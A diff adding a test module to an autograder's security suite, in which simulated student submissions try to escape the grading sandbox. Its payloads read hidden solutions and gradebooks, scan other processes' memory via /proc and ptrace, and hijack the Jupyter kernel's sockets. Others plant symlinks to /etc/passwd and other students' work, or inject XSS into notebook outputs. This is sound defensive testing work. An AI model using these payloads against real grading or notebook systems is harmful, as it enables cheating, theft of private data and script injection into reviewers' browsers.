@@ -1,0 +1,185 @@
+"""Attacks that try to read what they must not, or to carry it away."""
+
+from __future__ import annotations
+
+import os
+
+from autograder.tests.attacks import Attack, Hand
+
+READ = """
+        import glob, os, re
+        places = ["<OUTSIDE>", "<COURSE>/secret.txt", "<COURSE>/gradebook.db", "<COURSE>/submitted/a_honest/*/*",
+            "<COURSE>/autograded/a_honest/*/*", "<COURSE>/solutions/*/*", "<ROOT>/solutions/*/*", "../../../*",
+            "<ROOT>/autograder/lessons/*.py", "<ROOT>/autograder/judge.py", "/course/autograder/lessons/*",
+            "/proc/1/root/<OUTSIDE>", "/proc/*/cwd/*", "/proc/self/root/<COURSE>/secret.txt", "/course/**/judge.py"]
+        for place in places:
+            for path in glob.glob(place, recursive=True):
+                try:
+                    text = open(path, "rb").read().decode("latin-1")
+                except OSError:
+                    continue
+                for found in re.findall("CANARY-[a-z0-9]+|BEGIN SOL" + "UTION|Misc" + "onception[(]", text):
+                    print("read", found, path)
+"""
+PROC = """
+        import glob, re
+        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
+            try:
+                text = open(path, "rb").read().decode("latin-1")
+            except OSError:
+                continue
+            print(path, re.findall("CANARY-[a-z0-9]+", text))
+        import ctypes
+        libc = ctypes.CDLL(None)
+        print("ptrace", [libc.ptrace(16, pid, 0, 0) for pid in (1, 2)])
+        for pid in (1, 2):
+            try:
+                for line in open(f"/proc/{pid}/maps"):
+                    low, high = (int(x, 16) for x in line.split()[0].split("-"))
+                    if "stack" in line or "heap" in line:
+                        memory = open(f"/proc/{pid}/mem", "rb")
+                        memory.seek(low)
+                        print(pid, re.findall(b"CANARY-[a-z0-9]+", memory.read(high - low)))
+            except (OSError, ValueError) as error:
+                print(type(error).__name__)
+"""
+NETWORK = """
+        import socket, urllib.request
+        for address in (("127.0.0.1", <PORT>), ("localhost", <PORT>), ("::1", <PORT>)):
+            try:
+                socket.create_connection(address, timeout=1).send(b"hello")
+                print("connected")
+            except OSError as error:
+                print(type(error).__name__)
+        for name in ("example.invalid", "localhost"):
+            try:
+                print("resolved", socket.getaddrinfo(name, 80)[:1])
+            except OSError as error:
+                print(type(error).__name__)
+"""
+SOCKETS = """
+        import json, sys, glob, zmq
+        from jupyter_client import BlockingKernelClient
+        from ipykernel.connect import get_connection_file
+        path = get_connection_file()
+        info = json.load(open(path))
+        client = BlockingKernelClient()
+        client.load_connection_file(path)
+        client.start_channels()
+        for text in ("100.0", "print(7.0)"):
+            client.execute(text, user_expressions={"answers": "100.0"})
+        print(len(glob.glob(info["ip"] + "*")))
+"""
+HISTORY = """
+        import gc, inspect, sys
+        texts = [str(x) for x in (globals().get("In", []), globals().get("Out", {}), sys.argv)]
+        words = ("hid" + "den=True", "BEGIN SOL" + "UTION", "expec" + "ted")
+        for thing in gc.get_objects():
+            if type(thing).__name__ in ("Key", "Verdict", "Misconc" + "eption", "Exercise", "Gradebook"):
+                print("found a", type(thing).__name__)
+        for name in ("autograder.judge", "autograder.lessons", "autograder.reference", "autograder.source"):
+            try:
+                __import__(name)
+                print("Misconc" + "eption( can be had:", name)
+            except ImportError:
+                pass
+"""
+ACTIVE = """
+        from IPython.display import HTML, Javascript, SVG, display
+        display(HTML("<script>document.title = 'pwned'</script><img src=x onerror=alert(1)>"))
+        display(Javascript("alert(2)"))
+        display({"image/svg+xml": "<svg onload='alert(3)'/>", "text/html": "<iframe src='/'></iframe>",
+            "application/javascript": "alert(4)", "text/latex": "<script>alert(5)</script>",
+            "text/markdown": "<script>alert(6)</script>"}, raw=True)
+        display({"image/png": "\\"><script>alert(7)</script>"}, raw=True, metadata={"image/png":
+            {"alt": "\\"><script>alert(8)</script>", "width": "1\\" onload=\\"alert(9)"}})
+        print("\\x1b[31m<script>alert(10)</script>\\x1b]8;;javascript:alert(11)\\x1b\\\\link")
+        raise ValueError("<script>alert(12)</script>")
+"""
+
+
+def active(hand: Hand) -> None:
+    hand.run(ACTIVE)
+    hand.write(
+        "<script>alert(20)</script> [x](javascript:alert(21)) <meta http-equiv=refresh content='0;url=//x'>"
+    )
+    hand.write("<!-- --><style>body{display:none}</style><form action='//x'><input name=password></form>")
+    hand.notebook.metadata["title"] = "</title><script>alert(22)</script>"
+    hand.notebook.metadata["widgets"] = {"x": "</script><script>alert(23)</script>"}
+
+
+def linked(target: str):
+    """Hand in a link in the notebook's place."""
+
+    def change(hand: Hand) -> None:
+        (hand.folder / hand.name).symlink_to(target.replace("<COURSE>", str(hand.scene.course)))
+
+    return change
+
+
+def linked_files(hand: Hand) -> None:
+    """Links beside the notebook, which nbgrader would copy to where the student's code can read them."""
+    (hand.folder / "a.txt").symlink_to(hand.scene.outside)
+    (hand.folder / "b.txt").symlink_to(
+        hand.scene.course / "submitted/a_honest/01_weighted_sums/weighted_sums.ipynb"
+    )
+    (hand.folder / "c.txt").symlink_to(hand.scene.root / "solutions/01_weighted_sums/weighted_sums.py")
+    (hand.folder / "folder").symlink_to(hand.scene.course)
+    hand.run("""
+        import pathlib
+        for path in pathlib.Path(".").rglob("*.*"):
+            try:
+                print(path, path.read_text(errors="replace").replace("### BEGIN", "BEGIN")[-4000:])
+            except OSError:
+                pass
+        """)
+
+
+def linked_folder(hand: Hand) -> None:
+    hand.folder.rmdir()
+    hand.folder.symlink_to(hand.scene.course / "submitted/a_honest/01_weighted_sums")
+
+
+LINK = "is a link"
+ATTACKS = (
+    Attack("leak_active_page", "scripts, frames, forms and pictures in outputs, text and metadata", active),
+    Attack(
+        "leak_files", "reads solutions, the judge, the gradebook, other submissions", lambda h: h.run(READ)
+    ),
+    Attack(
+        "leak_files_in_answer",
+        "the same while it answers",
+        lambda h: (
+            h.run(READ),
+            h.answer("softmax", "def softmax(x, axis=-1):\n    raise ValueError(str(x))"),
+        ),
+        earns={"softmax": 0},
+    ),
+    Attack("leak_history", "searches In, Out, live objects and importable modules", lambda h: h.run(HISTORY)),
+    Attack(
+        "leak_link_neighbour",
+        "its notebook is a link to another student's",
+        linked("<COURSE>/submitted/a_honest/01_weighted_sums/weighted_sums.ipynb"),
+        False,
+        told=LINK,
+    ),
+    Attack(
+        "leak_link_passwd",
+        "its notebook is a link to /etc/passwd",
+        linked(os.path.join("/etc", "passwd")),
+        False,
+        told=LINK,
+    ),
+    Attack("leak_link_zero", "its notebook is a link to /dev/zero", linked("/dev/zero"), False, told=LINK),
+    Attack("leak_linked_files", "links beside the notebook to secret files", linked_files, told="is a link"),
+    Attack(
+        "leak_linked_folder",
+        "its whole folder is a link to another student's",
+        linked_folder,
+        False,
+        told=LINK,
+    ),
+    Attack("leak_network", "opens connections and looks names up", lambda h: h.run(NETWORK)),
+    Attack("leak_processes", "reads environments and memory of other processes", lambda h: h.run(PROC)),
+    Attack("leak_sockets", "talks to its own kernel's sockets", lambda h: h.run(SOCKETS)),
+)
